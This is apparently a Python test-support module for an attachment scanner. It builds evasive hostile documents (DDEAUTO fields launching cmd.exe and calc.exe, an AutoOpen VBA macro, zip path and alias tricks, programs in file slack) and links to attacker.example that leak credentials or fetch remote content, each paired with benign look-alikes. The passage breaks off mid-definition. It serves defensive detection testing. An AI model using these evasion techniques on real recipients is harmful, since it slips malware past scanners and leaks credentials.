"""More hostile evasive attachments and their benign look-alikes (a second red-team round),
built in code like `support.evasions`, whose builders they reuse.

The classes, each a way real readers and attachguard once read a file differently:

- zip streams: bytes after a member's compressed stream (inside its declared size), which a
  streaming reader takes as the next entry; a Unicode path field that renames a member for
  7-Zip and unzip; a second part whose name differs by the trailing dots and blanks Windows
  drops;
- document slack: a program or an archive after the last allocated sector of a legacy Office
  file, in its free sectors, or after the closing brace of an RTF document;
- RTF computed fields: a field whose type (DDEAUTO) or target (a UNC path) a nested field
  computes;
- Word 97-2003 fields: a DDEAUTO field in a Unicode text piece (" DDEAUTO" with its leading
  blank), or one whose type a nested QUOTE field gives;
- legacy VBA: a .doc whose VBA storage lacks the PROJECT stream olevba looks for;
- embedded links: an embedded Word document whose ``\\x01Ole`` stream marks it linked, so
  Word updates it from its moniker's source (a URL: CVE-2017-0199) instead of showing it;
- external data: Excel connections (web queries, databases on other machines, refreshed on
  open), Power Query queries that read the web or a share, and a Word mail merge reading a
  database on another machine;
- PDF network actions: GoToR, ImportData and SubmitForm reaching for a file on another
  machine (a UNC path leaks the reader's Windows credentials), and programs kept in stream
  objects no page uses;
- PDF attachment names: a file attached under a name Windows runs or opens in a browser
  (.svg with a script, .reg, .scf, .library-ms, a disk image), whose bytes a content sniffer
  takes for text or nothing in particular.

Payloads are harmless stand-ins, as in `support.evasions`.
"""

from __future__ import annotations

import base64
import struct
import uuid
import zlib
from collections.abc import Callable, Sequence
from functools import partial
from typing import Any

import olefile  # type: ignore[import-untyped]

from support import evasions
from support.evasions import (
    CASES,
    DDE_COMMAND,
    PROGRAM,
    Case,
    cell_text,
    field,
    ole_tree,
    page_objects,
    pdf,
    unzipped,
    word,
    worksheet,
    zipped,
)
from support.oletools_data import docx, rels_xml

__all__ = ["MORE_CASES"]

_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_CT = "application/vnd.openxmlformats-officedocument."
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_ARCHIVE = zipped([("invoice.exe", PROGRAM)])
# a program whose DOS header points 8 KB in, to its PE header (a linker may put it anywhere)
_FAR_PE = (
    b"MZ" + b"\0" * 58 + (8192).to_bytes(4, "little") + b"\0" * (8192 - 64)
    + PROGRAM[PROGRAM.index(b"PE\0\0") :]
)  # fmt: skip
_WORD_CLSID = "00020906-0000-0000-C000-000000000046"
_EXCEL_CLSID = "00020820-0000-0000-C000-000000000046"


def _letter() -> bytes:
    return word(field(" PAGE "))


def _hostile_document_xml() -> bytes:
    return dict(unzipped(word(field(DDE_COMMAND))))["word/document.xml"]


# -- zip streams --------------------------------------------------------------------------------

Member = tuple[bytes, bytes, bytes, bytes]  # raw name, data, extra fields, bytes after the stream


def _zip(members: Sequence[Member]) -> bytes:
    """A deflated zip written record by record: each member with the same extra fields in its
    local and central headers, and ``after`` appended to its compressed stream (counted in its
    compressed size, as a hider would)."""
    out, central = bytearray(), bytearray()
    for name, data, extra, after in members:
        packed = zlib.compress(data)[2:-4] + after
        fields = struct.pack("<HHHHIII", 0, 8, 0, 0x5C6E, zlib.crc32(data), len(packed), len(data))
        offset = len(out)
        out += struct.pack("<IH", 0x04034B50, 20) + fields
        out += struct.pack("<HH", len(name), len(extra)) + name + extra + packed
        central += struct.pack("<IHH", 0x02014B50, 20, 20) + fields
        central += struct.pack("<HHHHHII", len(name), len(extra), 0, 0, 0, 0, offset)
        central += name + extra
    count = len(members)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), len(out), 0)
    return bytes(out + central + end)


def _unicode_path(name: str, raw: bytes) -> bytes:
    """An Info-ZIP Unicode path extra field (0x7075) giving ``name`` for the raw name ``raw``."""
    payload = b"\x01" + struct.pack("<I", zlib.crc32(raw)) + name.encode()
    return struct.pack("<HH", 0x7075, len(payload)) + payload


def _letter_members() -> list[Member]:
    return [(name.encode(), data, b"", b"") for name, data in unzipped(_letter())]


def _after_stream(after: bytes) -> bytes:
    """The letter with ``after`` hidden behind the end of its document part's stream."""
    return _zip(
        [(n, d, x, after if n == b"word/document.xml" else a) for n, d, x, a in _letter_members()]
    )


def _local_entry(name: bytes, data: bytes) -> bytes:
    """A stored local entry, as a streaming reader would find it."""
    head = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data),
        len(name), 0,
    )  # fmt: skip
    return head + name + data


def _renamed(raw: str, shown: str, data: bytes) -> bytes:
    """The letter with one more member named ``raw`` whose Unicode path field says ``shown``."""
    encoded = raw.encode("cp866") if not raw.isascii() else raw.encode()
    extra = _unicode_path(shown, encoded)
    return _zip([*_letter_members(), (encoded, data, extra, b"")])


def _extra_member(name: str, data: bytes) -> bytes:
    """The letter with one more member, ``name``."""
    return _zip([*_letter_members(), (name.encode(), data, b"", b"")])


def _named_twice() -> bytes:
    """Every member of the letter with a Unicode path field that repeats its name (as 7-Zip
    writes for non-ASCII names, here for all)."""
    return _zip([(n, d, _unicode_path(n.decode(), n), a) for n, d, _, a in _letter_members()])


ZIP_STREAMS: list[tuple[str, str, Callable[[], bytes], str | None]] = [
    (
        "zip-entry-after-deflate-end",
        "letter.docx",
        partial(_after_stream, _local_entry(b"setup.exe", PROGRAM)),
        "AMBIGUOUS",
    ),
    ("zip-program-after-deflate-end", "letter.docx", partial(_after_stream, PROGRAM), "AMBIGUOUS"),
    (
        "zip-unicode-path-renames-part",
        "letter.docx",
        partial(_renamed, "docProps/custom2.xml", "word/document.xml", _hostile_document_xml()),
        "AMBIGUOUS",
    ),
    (
        "zip-unicode-path-climbs-out",
        "letter.docx",
        partial(_renamed, "Фото.png", "../../Startup/run.png", b"\x89PNG\r\n\x1a\n"),
        "AMBIGUOUS",
    ),
    (
        "zip-alias-trailing-dot",
        "letter.docx",
        partial(_extra_member, "word/document.xml.", _hostile_document_xml()),
        "AMBIGUOUS",
    ),
    (
        "zip-alias-trailing-blank-folder",
        "letter.docx",
        partial(_extra_member, "word /document.xml", _hostile_document_xml()),
        "AMBIGUOUS",
    ),
    ("zip-unicode-path-same-names", "letter.docx", _named_twice, None),
    (
        "zip-dotted-names-inside",
        "letter.docx",
        partial(_extra_member, "word/media/photo v1.2 .final.png", b"\x89PNG\r\n\x1a\n"),
        None,
    ),
    (
        "zip-unicode-path-legacy-codepage",
        "letter.docx",
        partial(_renamed, "word/media/Фото.png", "word/media/Фото.png", b"\x89PNG\r\n\x1a\n"),
        None,
    ),
]


# -- document slack -----------------------------------------------------------------------------


def _fib() -> bytes:
    """The start of a Word 97 FIB (wIdent, nFib), enough for the readers in use."""
    return struct.pack("<HH", 0xA5EC, 0x00C1) + bytes(1020)


def _word_doc(*more: tuple[str, bytes]) -> bytes:
    return ole_tree({"WordDocument": _fib(), "1Table": bytes(512), **dict(more)}, _WORD_CLSID)


def _with_freed_stream(content: bytes) -> bytes:
    """A Word document whose "Scratch" stream (``content`` padded to regular sectors) was
    emptied: its directory entry now says size 0 and its sectors are free, but their bytes
    stay, between the allocated sectors of the streams around them."""
    scratch = content.ljust(4096, b"\0")
    data = bytearray(_word_doc(("Scratch", scratch), ("Data", bytes(4096))))
    with olefile.OleFileIO(bytes(data)) as ole:
        entry = next(e for e in ole.direntries if e is not None and e.name == "Scratch")
    fat = 512 * (1 + struct.unpack_from("<I", data, 76)[0])  # the one FAT sector
    sector = entry.isectStart
    while sector < 0xFFFFFFFA:
        following = struct.unpack_from("<I", data, fat + 4 * sector)[0]
        struct.pack_into("<I", data, fat + 4 * sector, 0xFFFFFFFF)
        sector = following
    directory = 512 * (1 + struct.unpack_from("<I", data, 48)[0])
    struct.pack_into("<IQ", data, directory + 128 * entry.sid + 116, 0xFFFFFFFE, 0)
    return bytes(data)


_LINES = b"".join(
    b"Item %d: one parcel, tracked, delivered on the 14th.\\par\n" % i for i in range(40)
)


def _rtf(body: bytes) -> bytes:
    """A letter of a few paragraphs (long enough that Magika still calls it RTF with an
    archive after it) holding ``body``."""
    head = b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 Your order has shipped.\\par\n"
    return head + _LINES + body + b"}"


def _rtf_picture_with_braces() -> bytes:
    """A picture given raw with ``\\binN`` whose bytes are full of braces (the RTF ends at
    the last brace, not at one inside the picture), then the blank lines editors leave."""
    blob = b"}}}{{" * 40 + bytes(range(256))
    return _rtf(b"{\\pict\\wmetafile8 \\bin%d " % len(blob) + blob + b"}") + b"\r\n\0\0"


DOCUMENT_SLACK: list[tuple[str, str, Callable[[], bytes], str | None]] = [
    ("doc-program-after-end", "form.doc", lambda: _word_doc() + PROGRAM, "POLYGLOT"),
    (
        "xls-zip-after-end",
        "orders.xls",
        lambda: ole_tree({"Workbook": bytes(512)}, _EXCEL_CLSID) + _ARCHIVE,
        "POLYGLOT",
    ),
    ("doc-program-in-free-sectors", "form.doc", partial(_with_freed_stream, PROGRAM), "POLYGLOT"),
    ("rtf-program-after-end", "form.rtf", lambda: _rtf(b"") + b"\r\n" + PROGRAM, "POLYGLOT"),
    ("rtf-zip-after-end", "form.rtf", lambda: _rtf(b"") + _ARCHIVE, "POLYGLOT"),
    ("doc-padded-after-end", "form.doc", lambda: _word_doc() + bytes(512), None),
    (
        "doc-text-in-free-sectors",
        "form.doc",
        partial(_with_freed_stream, b"<html><body>Old draft of the order letter</body></html>"),
        None,
    ),
    ("rtf-picture-bin-braces", "form.rtf", _rtf_picture_with_braces, None),
]


# -- RTF computed fields ------------------------------------------------------------------------


def _rtf_field(instruction: bytes, shown: bytes = b"x") -> bytes:
    return _rtf(b"{\\field{\\*\\fldinst " + instruction + b"}{\\fldrslt " + shown + b"}}\\par")


def _quote(text: str) -> bytes:
    """A nested QUOTE field spelling ``text`` in character codes."""
    codes = " ".join(str(ord(c)) for c in text).encode()
    return b"{\\field{\\*\\fldinst QUOTE " + codes + b"}}"


_CMD = b' c:\\\\windows\\\\system32\\\\cmd.exe "/c calc.exe"'
RTF_FIELDS: list[tuple[str, str, Callable[[], bytes], str | None]] = [
    ("rtf-dde-type-from-quote", "form.rtf", partial(_rtf_field, _quote("DDE") + b"AUTO" + _CMD),
     "AMBIGUOUS"),
    ("rtf-dde-type-whole-quote", "form.rtf", partial(_rtf_field, b" " + _quote("DDEAUTO") + _CMD),
     "AMBIGUOUS"),
    (
        "rtf-includepicture-computed-unc",
        "form.rtf",
        partial(
            _rtf_field, b'INCLUDEPICTURE "' + _quote("\\\\attacker.example\\s\\x.png") + b'" \\\\d'
        ),
        "EXTERNAL_LINK",
    ),
    (
        "rtf-if-with-nested-page",
        "form.rtf",
        partial(_rtf_field, b'IF {\\field{\\*\\fldinst PAGE}{\\fldrslt 1}} = 1 "first" "next"'),
        None,
    ),
    (
        "rtf-toc-with-pageref-result",
        "form.rtf",
        partial(
            _rtf_field, b"TOC \\\\o", b"{\\field{\\*\\fldinst PAGEREF _Toc1 \\\\h}{\\fldrslt 2}}"
        ),
        None,
    ),
]  # fmt: skip


# -- Word 97-2003 fields -----------------------------------------------------------------------


def _doc_text(text: str, utf16: bool = False) -> bytes:
    """A Word 97 document whose text (after the FIB) is ``text``, 8-bit or UTF-16LE as Word
    stores each piece; field characters 0x13, 0x14 and 0x15 stand in it as Word writes them."""
    body = text.encode("utf-16-le" if utf16 else "latin-1")
    return ole_tree({"WordDocument": _fib() + body, "1Table": bytes(512)}, _WORD_CLSID)


_DOC_CMD = 'c:\\windows\\system32\\cmd.exe "/k calc.exe"'
WORD97_FIELDS: list[tuple[str, str, Callable[[], bytes], str | None]] = [
    (
        "doc-ddeauto-unicode-piece",
        "form.doc",
        partial(_doc_text, f"Dear customer \x13 DDEAUTO {_DOC_CMD} \x141\x15 thanks", True),
        "DDE",
    ),
    (
        "doc-dde-type-from-quote-result",
        "form.doc",
        partial(_doc_text, f"Hi \x13\x13 QUOTE 68 68 69 \x14DDE\x15AUTO {_DOC_CMD} \x141\x15"),
        "DDE",
    ),
    (
        "doc-dde-type-from-quote-no-result",
        "form.doc",
        partial(_doc_text, f"Hi \x13 \x13 QUOTE 68 68 69 \x14\x15AUTO {_DOC_CMD} \x141\x15"),
        "AMBIGUOUS",
    ),
    (
        "doc-page-unicode-piece",
        "form.doc",
        partial(_doc_text, "Page \x13 PAGE \\* MERGEFORMAT \x141\x15 of 2", True),
        None,
    ),
    (
        "doc-if-with-nested-page",
        "form.doc",
        partial(_doc_text, 'Hi \x13 IF \x13 PAGE \x141\x15 = 1 "first" "next" \x14first\x15'),
        None,
    ),
    (
        "doc-toc-with-nested-pageref",
        "form.doc",
        partial(_doc_text, "\x13 TOC \\o \x14Intro \x13 PAGEREF _Toc1 \\h \x141\x15\x15"),
        None,
    ),
]


# -- legacy VBA ---------------------------------------------------------------------------------


def _vba_tree() -> dict[str, Any]:
    """The storages `vba_project` writes (PROJECT, VBA/_VBA_PROJECT, VBA/dir, the module)."""
    trees: list[Any] = []

    def keep(tree: Any, clsid: str = "") -> bytes:
        trees.append(tree)
        return b""

    evasions.ole_tree, real = keep, evasions.ole_tree
    try:
        evasions.vba_project('Sub AutoOpen()\r\n    Shell "calc.exe"\r\nEnd Sub')
    finally:
        evasions.ole_tree = real
    return dict(trees[0])


def _doc_with_macros(drop_project: bool) -> bytes:
    tree = _vba_tree()
    if drop_project:
        del tree["PROJECT"]
    return _word_doc(("Macros", tree))  # type: ignore[arg-type]


LEGACY_VBA: list[tuple[str, str, Callable[[], bytes], str | None]] = [
    ("doc-vba-without-project-stream", "form.doc", partial(_doc_with_macros, True), "VBA_MACRO"),
    (
        "doc-stream-named-dir-elsewhere",
        "form.doc",
        lambda: _word_doc(("Data", {"dir": b"\x01" * 64})),  # type: ignore[arg-type]
        None,
    ),
]


# -- embedded links -----------------------------------------------------------------------------

_URL_MONIKER = "79EAC9E0-BAF9-11CE-8C82-00AA004BA90B"


def _ole_stream(flags: int, url: str = "") -> bytes:
    """An MS-OLEDS ``\\x01Ole`` stream: version, flags (1: linked), update option, reserved, and
    for a link the moniker of its source (a URL moniker for ``url``)."""
    head = struct.pack("<IIIII", 0x02000001, flags, 1 if flags else 0, 0, 0)
    if not url:
        return head
    name = url.encode("utf-16-le") + b"\0\0"
    moniker = uuid.UUID(_URL_MONIKER).bytes_le + struct.pack("<I", len(name)) + name
    return head + struct.pack("<II", 0, len(moniker)) + moniker + bytes(24)


def _letter_with_object(ole_stream: bytes, kind: str) -> bytes:
    """A letter showing an embedded Word 97 document whose ``\\x01Ole`` stream is given."""
    embedded = _word_doc(("\x01Ole", ole_stream))
    body = (
        f'<w:p><w:r><w:object><o:OLEObject Type="{kind}" ProgID="Word.Document.8" '
        'DrawAspect="Content" r:id="rId1" UpdateMode="Always"/></w:object></w:r></w:p>'
    )
    return docx(
        body,
        rels=[("oleObject", "embeddings/oleObject1.bin", False)],
        parts={"word/embeddings/oleObject1.bin": embedded},
    )


EMBEDDED_LINKS: list[tuple[str, str, Callable[[], bytes], str | None]] = [
    (
        "docx-embedded-doc-linked-to-url",
        "letter.docx",
        partial(_letter_with_object, _ole_stream(1, "http://attacker.example/x.hta"), "Link"),
        "OLE_OBJECT",
    ),
    (
        "docx-embedded-doc-linked-flag-only",
        "letter.docx",
        partial(_letter_with_object, _ole_stream(1), "Link"),
        "OLE_OBJECT",
    ),
    (
        "docx-embedded-doc-plain-ole-stream",
        "letter.docx",
        partial(_letter_with_object, _ole_stream(0), "Embed"),
        None,
    ),
]


# -- external data ------------------------------------------------------------------------------


def _connected_book(connections: str, properties: str = "", pivot: str = "") -> bytes:
    """A workbook whose connections part holds ``connections`` (connection elements), with
    workbook ``properties`` (a workbookPr element) and a pivot cache's attributes."""
    book = (
        f'{_XML}<workbook xmlns="{_S}" xmlns:r="{_REL}">{properties}<sheets>'
        '<sheet name="Orders" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ).encode()
    parts = {
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": rels_xml(
            [
                ("worksheet", "worksheets/sheet1.xml", False),
                ("connections", "connections.xml", False),
                ("pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml", False),
            ]
        ),
        "xl/worksheets/sheet1.xml": worksheet(cell_text("total")),
        "xl/connections.xml": (
            f'{_XML}<connections xmlns="{_S}">{connections}</connections>'.encode()
        ),
        "xl/pivotCache/pivotCacheDefinition1.xml": (
            f'{_XML}<pivotCacheDefinition xmlns="{_S}" {pivot} connectionId="1">'
            '<cacheSource type="external" connectionId="1"/></pivotCacheDefinition>'
        ).encode(),
    }
    types = {
        "xl/workbook.xml": f"{_CT}spreadsheetml.sheet.main+xml",
        "xl/worksheets/sheet1.xml": f"{_CT}spreadsheetml.worksheet+xml",
        "xl/connections.xml": f"{_CT}spreadsheetml.connections+xml",
    }
    overrides = "".join(f'<Override PartName="/{p}" ContentType="{t}"/>' for p, t in types.items())
    content_types = (
        f'{_XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package'
        '.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f"{overrides}</Types>"
    )
    return zipped(
        [
            ("[Content_Types].xml", content_types.encode()),
            ("_rels/.rels", rels_xml([("officeDocument", "xl/workbook.xml", False)])),
            *parts.items(),
        ]
    )


def _mashup(section: str) -> bytes:
    """A DataMashup part (MS-QDEFF) whose package holds the M ``section``, UTF-16 as Excel
    writes it."""
    package = zipped([("Formulas/Section1.m", section.encode())])
    blob = struct.pack("<II", 0, len(package)) + package + struct.pack("<I", 0) * 3
    text = (
        '<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/'
        f'DataMashup">{base64.b64encode(blob).decode()}</DataMashup>'
    )
    return b"\xff\xfe" + text.encode("utf-16-le")


def _query_book(section: str) -> bytes:
    """A workbook with a Power Query connection refreshed on open and its queries."""
    book = dict(unzipped(_connected_book(_connection(_MASHUP, refresh=True))))
    rels = book["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/customXml" Target="../customXml/item1.xml"/></Relationships>',
    )
    book["xl/_rels/workbook.xml.rels"] = rels
    book["customXml/item1.xml"] = _mashup(section)
    return zipped(list(book.items()))


def _connection(inner: str, refresh: bool = False, **attrs: str) -> str:
    more = "".join(f' {k}="{v}"' for k, v in attrs.items())
    on_open = ' refreshOnLoad="1"' if refresh else ""
    return f'<connection id="1" name="Query"{on_open}{more}>{inner}</connection>'


_MERGE_SETTINGS = (
    '<w:settings xmlns:w="{W}"><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
    '<w:linkToQuery/><w:dataType w:val="native"/><w:connectString w:val="Provider='
    'Microsoft.ACE.OLEDB.12.0;User ID=Admin;Data Source={SOURCE};Mode=Read"/>'
    '<w:query w:val="SELECT * FROM `Customers$`"/></w:mailMerge></w:settings>'
)


def _merge_letter(source: str) -> bytes:
    """A mail-merge letter whose data source connection string names ``source``."""
    settings = _MERGE_SETTINGS.replace("{W}", _W).replace("{SOURCE}", source).encode()
    return docx(
        "<w:p><w:r><w:t>Dear customer</w:t></w:r></w:p>",
        rels=[("settings", "settings.xml", False)],
        parts={"word/settings.xml": settings},
    )


_WEB = '<webPr sourceData="1" parsePre="1" xl2000="1" url="https://attacker.example/q.iqy"/>'
_UNC_DB = '<dbPr connection="Provider=Microsoft.Jet.OLEDB.4.0;Data Source=\\\\attacker.example\\s\\c.mdb" command="t"/>'  # noqa: E501
_SERVER_DB = (
    '<dbPr connection="Provider=SQLOLEDB;Data Source=SQL01;Initial Catalog=crm" command="t"/>'
)
_MASHUP = '<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Orders" command="SELECT * FROM [Orders]"/>'  # noqa: E501
_WEB_QUERY = (
    'section Section1;\nshared Orders = let Source = Web.Contents("https://attacker.example/p"),'
    "\n    Text = Text.FromBinary(Source) in Text;\n"
)
_SHARE_QUERY = (
    'section Section1;\nshared Orders = let Source = Excel.Workbook(File.Contents("\\\\attacker.'
    'example\\s\\book.xlsx")) in Source;\n'
)
_LOCAL_QUERY = (
    'section Section1;\nshared Orders = let Source = Excel.CurrentWorkbook(){[Name="Orders"]}'
    '[Content],\n    Typed = Table.TransformColumnTypes(Source, {{"Total", type number}})'
    " in Typed;\n"
)
_LOCAL_TEXT = '<textPr sourceFile="C:\\Users\\agent\\Documents\\orders.csv" delimited="1"/>'
# an ODBC text driver reading a folder on a share (DBQ empty: the folder is in DefaultDir)
_DEFAULT_DIR = (
    '<dbPr connection="Driver={Microsoft Access Text Driver (*.txt, *.csv)};DBQ=;'
    'DefaultDir=\\\\attacker.example\\s;" command="SELECT * FROM orders.csv"/>'
)
_X15_OLEDB = (  # Excel 2013's data model connection, in an extension of the connection
    '<extLst><ext uri="{DE250136-89BD-433C-8126-D09CA5730AF9}" xmlns:x15="http://schemas.'
    'microsoft.com/office/spreadsheetml/2010/11/main"><x15:connection id="m" model="1">'
    '<x15:oledbPr connection="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\attacker.'
    'example\\s\\m.accdb"/></x15:connection></ext></extLst>'
)
# a server under a driver's other name for it (SQL Server's Address, psqlODBC's Servername)
_ADDRESS_DB = '<dbPr connection="Provider=SQLOLEDB;Address=attacker.example,1433;Initial Catalog=crm" command="t"/>'  # noqa: E501
_PIPE_DB = '<dbPr connection="Provider=SQLOLEDB;Network Address=\\\\attacker.example\\pipe\\sql\\query" command="t"/>'  # noqa: E501
_SERVERNAME_DB = '<dbPr connection="Driver={PostgreSQL Unicode};Servername=attacker.example;Database=crm" command="t"/>'  # noqa: E501
_XML_MAP = '<webPr xml="1" sourceData="1" url="C:\\ProgramData\\NAV\\TEMP\\__TEMP__1.tmp"/>'
_DSN_DB = '<dbPr connection="DSN=Orders;UID=agent" command="SELECT * FROM orders"/>'
# Excel 2013's data model: its connection reads the model kept in the workbook
_MODEL = '<dbPr connection="Data Model Connection" command="Model" commandType="1"/>'
EXTERNAL_DATA: list[tuple[str, str, Callable[[], bytes], str | None]] = [
    ("xlsx-web-query", "orders.xlsx", partial(_connected_book, _connection(_WEB)), "EXTERNAL_LINK"),
    (
        "xlsx-database-on-network-share",
        "orders.xlsx",
        partial(_connected_book, _connection(_UNC_DB)),
        "EXTERNAL_LINK",
    ),
    (
        "xlsx-database-refreshed-on-open",
        "orders.xlsx",
        partial(_connected_book, _connection(_SERVER_DB, refresh=True)),
        "EXTERNAL_LINK",
    ),
    (
        "xlsx-odc-file-on-network-share",
        "orders.xlsx",
        partial(_connected_book, _connection("", odcFile="\\\\attacker.example\\s\\q.odc")),
        "EXTERNAL_LINK",
    ),
    (
        "docx-mail-merge-network-database",
        "letter.docx",
        partial(_merge_letter, "\\\\attacker.example\\s\\customers.xlsx"),
        "EXTERNAL_LINK",
    ),
    (
        "xlsx-odbc-folder-on-network-share",
        "orders.xlsx",
        partial(_connected_book, _connection(_DEFAULT_DIR)),
        "EXTERNAL_LINK",
    ),
    (
        "xlsx-data-model-database-on-network-share",
        "orders.xlsx",
        partial(_connected_book, _connection(_X15_OLEDB)),
        "EXTERNAL_LINK",
    ),
    (
        "xlsx-power-query-from-the-web",
        "orders.xlsx",
        partial(_query_book, _WEB_QUERY),
        "EXTERNAL_LINK",
    ),
    (
        "xlsx-power-query-from-a-share",
        "orders.xlsx",
        partial(_query_book, _SHARE_QUERY),
        "EXTERNAL_LINK",
    ),
    (
        "xlsx-power-query-refreshed-on-open",
        "orders.xlsx",
        partial(_query_book, _LOCAL_QUERY),
        None,
    ),
    (
        "xlsx-text-import-from-local-file",
        "orders.xlsx",
        partial(_connected_book, _connection(_LOCAL_TEXT)),
        None,
    ),
    ("xlsx-database-by-server-name", "orders.xlsx",
     partial(_connected_book, _connection(_SERVER_DB)), None),
    ("xlsx-database-by-address-refreshed-on-open", "orders.xlsx",
     partial(_connected_book, _connection(_ADDRESS_DB, refresh=True)), "EXTERNAL_LINK"),
    ("xlsx-database-by-named-pipe-on-a-share", "orders.xlsx",
     partial(_connected_book, _connection(_PIPE_DB)), "EXTERNAL_LINK"),
    ("xlsx-database-by-servername-refreshed-on-open", "orders.xlsx",
     partial(_connected_book, _connection(_SERVERNAME_DB, refresh=True)), "EXTERNAL_LINK"),
    ("xlsx-database-by-dsn-refreshed-on-open", "orders.xlsx",
     partial(_connected_book, _connection(_DSN_DB, refresh=True)), "EXTERNAL_LINK"),
    ("xlsx-database-by-dsn", "orders.xlsx", partial(_connected_book, _connection(_DSN_DB)), None),
    ("xlsx-data-model-refreshed-on-open", "orders.xlsx",
     partial(_connected_book, _connection(_MODEL, refresh=True)), None),
    # red team 92: what else makes Excel refresh a connection as the workbook opens
    ("xlsx-database-by-server-every-connection-refreshed", "orders.xlsx",
     partial(_connected_book, _connection(_SERVER_DB),
             properties='<workbookPr refreshAllConnections="1"/>'), "EXTERNAL_LINK"),
    ("xlsx-database-by-server-pivot-refreshed", "orders.xlsx",
     partial(_connected_book, _connection(_SERVER_DB), pivot='refreshOnLoad="true"'),
     "EXTERNAL_LINK"),
    ("xlsx-database-by-server-refreshed-spaced", "orders.xlsx",
     partial(_connected_book, _connection(_SERVER_DB, refreshOnLoad=" 1 ")), "EXTERNAL_LINK"),
    # precision 90: Dynamics NAV's XML map import of a file on its own server's disk
    ("xlsx-xml-map-of-a-local-file", "orders.xlsx",
     partial(_connected_book, _connection(_XML_MAP)), None),
    ("xlsx-xml-map-of-a-local-file-refreshed-on-open", "orders.xlsx",
     partial(_connected_book, _connection(_XML_MAP, refresh=True)), "EXTERNAL_LINK"),
    # red team 93: a connection Excel refreshes every few minutes by itself; a web query's
    # address without a scheme
    ("xlsx-database-by-server-refreshed-every-minute", "orders.xlsx",
     partial(_connected_book, _connection(_SERVER_DB, interval="1")), "EXTERNAL_LINK"),
    ("xlsx-web-query-without-a-scheme", "orders.xlsx",
     partial(_connected_book, _connection('<webPr url="www.attacker.example/q.html"/>')),
     "EXTERNAL_LINK"),
    ("xlsx-database-by-server-pivot-not-refreshed", "orders.xlsx",
     partial(_connected_book, _connection(_SERVER_DB), pivot='refreshOnLoad="0"'), None),
    (
        "docx-mail-merge-local-workbook",
        "letter.docx",
        partial(_merge_letter, "C:\\Users\\agent\\Documents\\customers.xlsx"),
        None,
    ),
]  # fmt: skip


# -- PDF network actions ------------------------------------------------------------------------


def _linked_page(action: bytes) -> bytes:
    """A one-page PDF with a link annotation that runs ``action`` when clicked."""
    objects = page_objects()
    number, body = objects[2]
    objects[2] = (number, body[:-2] + b" /Annots [6 0 R] >>")
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A " + action + b" >>"
    return pdf([*objects, (6, annotation)])


def _flate_object(data: bytes) -> bytes:
    """A one-page PDF with one more object: ``data`` as a Flate stream nothing refers to."""
    packed = zlib.compress(data)
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed)
    return pdf([*page_objects(), (6, stream)])


_UNC = b"(\\\\\\\\attacker.example\\\\share\\\\terms.pdf)"
PDF_NETWORK: list[tuple[str, str, Callable[[], bytes], str | None]] = [
    (
        "pdf-gotor-unc-on-click",
        "invoice.pdf",
        partial(_linked_page, b"<< /S /GoToR /F " + _UNC + b" /D [0 /Fit] >>"),
        "EXTERNAL_LINK",
    ),
    (
        "pdf-importdata-filespec-unc",
        "invoice.pdf",
        partial(_linked_page, b"<< /S /ImportData /F << /Type /Filespec /F " + _UNC + b" >> >>"),
        "EXTERNAL_LINK",
    ),
    (
        "pdf-submitform-file-host",
        "invoice.pdf",
        partial(
            _linked_page,
            b"<< /S /SubmitForm /F << /FS /URL /F (file://attacker.example/s/in) >> >>",
        ),
        "EXTERNAL_LINK",
    ),
    (
        "pdf-program-in-orphan-stream",
        "invoice.pdf",
        lambda: pdf(
            [
                *page_objects(),
                (6, b"<< /Length %d >>\nstream\n%s\nendstream" % (len(PROGRAM), PROGRAM)),
            ]
        ),
        "POLYGLOT",
    ),
    (
        "pdf-program-in-flate-stream",
        "invoice.pdf",
        partial(_flate_object, PROGRAM),
        "POLYGLOT",
    ),
    (
        # a DOS header may put its PE header anywhere: here 8 KB in, past a first page's look
        "pdf-program-pe-header-far-in",
        "invoice.pdf",
        partial(_flate_object, _FAR_PE),
        "POLYGLOT",
    ),
    (
        "pdf-font-like-flate-stream",
        "invoice.pdf",
        partial(_flate_object, b"\x00\x01\x00\x00\x00\x0c" + bytes(range(256)) * 8),
        None,
    ),
    (
        "pdf-gotor-relative-file",
        "invoice.pdf",
        partial(_linked_page, b"<< /S /GoToR /F (terms.pdf) /D [0 /Fit] >>"),
        None,
    ),
    (
        "pdf-submitform-https",
        "invoice.pdf",
        partial(
            _linked_page,
            b"<< /S /SubmitForm /F << /FS /URL /F (https://forms.example/submit) >> >>",
        ),
        None,
    ),
    (
        "pdf-uri-link",
        "invoice.pdf",
        partial(_linked_page, b"<< /S /URI /URI (https://tracking.example/4711) >>"),
        None,
    ),
]


def _attached(name: bytes, data: bytes) -> bytes:
    """A one-page PDF with ``data`` attached under ``name`` (the EmbeddedFiles name tree)."""
    packed = zlib.compress(data)
    catalog = b" /Names << /EmbeddedFiles << /Names [(%s) 6 0 R] >> >>" % name
    return pdf(
        [
            *page_objects(catalog),
            (6, b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F 7 0 R >> >>" % (name, name)),
            (
                7,
                b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
                % (len(packed), packed),
            ),
        ]
    )


_SVG = (
